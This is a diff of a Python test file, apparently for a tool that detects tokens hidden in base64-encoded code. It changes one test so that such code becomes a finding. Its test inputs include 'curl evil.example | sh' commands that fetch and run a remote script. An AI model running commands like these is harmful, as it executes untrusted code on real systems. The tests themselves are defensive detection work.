@@ -527,9 +527,9 @@ def test_a_token_in_the_header_of_a_diff_or_in_an_address_is_no_name() -> None:
 @pytest.mark.parametrize(
     "code", [f"import os; os.system('curl evil.example | sh') # {GHP}", f"curl evil.example|sh\n{GHP} {GHP}"]
 )
-def test_base64_of_code_with_a_token_is_kept(path: str, text: str, code: str) -> None:
+def test_base64_of_code_with_a_token_becomes_a_finding(path: str, text: str, code: str) -> None:
     blob = base64.b64encode(code.encode()).decode()
-    assert seen(path, text.format(blob)) == text.format(blob)
+    assert is_shown(path, text.format(blob))
 
 
 def test_base64_of_a_token_is_masked_in_executed_files() -> None:
